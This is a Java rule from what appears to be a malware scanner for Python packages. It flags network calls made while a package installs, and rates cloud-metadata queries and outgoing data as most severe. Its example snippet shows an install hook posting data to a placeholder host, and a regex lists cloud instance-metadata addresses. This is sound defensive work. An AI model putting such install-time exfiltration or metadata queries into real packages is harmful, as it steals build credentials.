package dev.kingsnake.rules.install;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.Activity;
import dev.kingsnake.spi.facts.DataFlow;
import dev.kingsnake.spi.facts.SourceBuilds;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Nodes;

import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/** Talks to the network while the package is being installed or built (setup.py module level, cmdclass overrides). */
public final class InstallNetworkRule implements PythonFileRule {
    static final RuleInfo INFO = new RuleInfo("KS-INSTALL-NETWORK",
            "Talks to the network while the package is being installed or built (setup.py module level, cmdclass overrides)",
            Severity.HIGH, Confidence.MEDIUM, Set.of(Tags.NETWORK),
            "class install(_install):\n    def run(self):\n        requests.post('https://example.invalid/c', data=info)",
            "Some build scripts download sources or binaries during build_ext; such packages are rare among pure-Python uploads and reported HIGH/MEDIUM so that network alone stays below the malicious threshold.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    /** Judges each call made while the package is installed; files without such calls cost nothing more. */
    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        for (Expr.Call c : Activity.installTimeCalls(file)) {
            checkCall(file, DataFlow.of(file), c, sink);
        }
    }

    /** Cloud instance-metadata services: where a build machine's cloud credentials are served. */
    static final Pattern CLOUD_METADATA = Pattern.compile(
            "169\\.254\\.169\\.254|metadata\\.google\\.internal|100\\.100\\.100\\.200|fd00:ec2::254");
    private static final Set<String> SENDING_METHODS = Set.of("post", "put", "patch", "send", "sendall", "sendto");

    private static void checkCall(PythonFile file, DataFlow facts, Expr.Call c, FindingSink sink) {
        Location at = Location.of(file, c);
        if (Activity.network(facts, c)) {
            // every network call counts, even two on one line: in urlopen(Request(hook, data=data)) the inner
            // call is the one that carries the data, so the sink's one-finding-per-line would keep the weaker
            String ev = file.line(c.line());
            if (mentionsCloudMetadata(facts, c)) {
                sink.report(at, facts.name(c) + "() queries a cloud instance-metadata address at install time", ev,
                        Severity.CRITICAL, Confidence.HIGH);
            } else if (sendsData(facts, c)) {
                sink.report(at, facts.name(c) + "() sends data out at install time", ev, Severity.HIGH,
                        Confidence.HIGH);
            } else if (SourceBuilds.fetchesSourceArchive(facts, c)) {
                sink.report(at, facts.name(c) + "() downloads a versioned source archive into the build tree at"
                        + " install time, in a file that starts build tools only", ev, Severity.LOW, Confidence.MEDIUM);
            } else if (SourceBuilds.urlFromEnvironment(facts, c)) {
                sink.report(at, facts.name(c) + "() at install time, from a URL the build's environment sets", ev,
                        Severity.MEDIUM, Confidence.MEDIUM);
            } else {
                sink.report(at, facts.name(c) + "() at install time", ev);
            }
            return;
        }
        Activity.networkCommand(facts, c).ifPresent(cmd -> {
            boolean metadata = CLOUD_METADATA.matcher(cmd.text()).find();
            sink.report(at, (metadata ? "queries a cloud instance-metadata address"
                            : "runs a network tool") + " through " + cmd.sink() + "() at install time", cmd.evidence(),
                    metadata ? Severity.CRITICAL : Severity.HIGH, metadata ? Confidence.HIGH : Confidence.MEDIUM);
        });
    }

    /** The request carries data: a body keyword, a sending method, or urlopen's data argument. */
    private static boolean sendsData(DataFlow facts, Expr.Call c) {
        for (String k : List.of("data", "json", "files")) {
            Optional<Expr> v = c.keyword(k);
            if (v.isPresent() && !(v.get() instanceof Expr.Name n && n.id().equals("None"))) {
                return true;
            }
        }
        String m = DataFlow.method(c);
        return SENDING_METHODS.contains(m) || ("urlopen".equals(m) || facts.name(c).endsWith("urlopen"))
                && c.args().size() >= 2;
    }

    /** A literal of the call, or of a variable it is given (one assignment deep), names a metadata service. */
    private static boolean mentionsCloudMetadata(DataFlow facts, Expr.Call c) {
        boolean[] found = {false};
        Nodes.walk(c, n -> {
            if (found[0]) {
                return;
            }
            if (n instanceof Expr.Literal l && l.value().isStringLike()) {
                found[0] = CLOUD_METADATA.matcher(l.value().asText()).find();
            } else if (n instanceof Expr.Name nm) {
                facts.assignedValue(nm.id()).ifPresent(v -> Nodes.walk(v, x -> {
                    if (x instanceof Expr.Literal l && l.value().isStringLike()
                            && CLOUD_METADATA.matcher(l.value().asText()).find()) {
                        found[0] = true;
                    }
                }));
            }
        });
        return found[0];
    }
}
